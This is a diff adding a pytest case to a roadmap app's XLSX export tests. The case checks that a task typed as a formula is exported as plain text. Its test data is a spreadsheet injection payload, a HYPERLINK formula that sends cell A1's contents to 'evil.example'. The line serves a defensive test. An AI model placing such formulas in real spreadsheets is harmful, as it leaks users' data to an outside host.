@@ -24,6 +24,15 @@ def test_xlsx_export_has_one_row_per_item(rm, users, client_for):
     assert sheet.cell(row=4, column=2).value == "Задача"
 
 
+def test_xlsx_export_keeps_a_typed_formula_as_text(rm, users, client_for):
+    rm.own.task = '=HYPERLINK("https://evil.example/?"&A1,"Отчёт")'
+    rm.own.save()
+    response = client_for(users.curator).get(reverse("roadmaps:export_xlsx", args=[rm.roadmap.pk]))
+    sheet = load_workbook(BytesIO(response.content)).active
+    cell = next(row[1] for row in sheet.iter_rows(min_row=5) if row[1].value == rm.own.task)
+    assert cell.data_type == "s"
+
+
 def test_printable_page(rm, users, client_for):
     body = (
         client_for(users.curator)
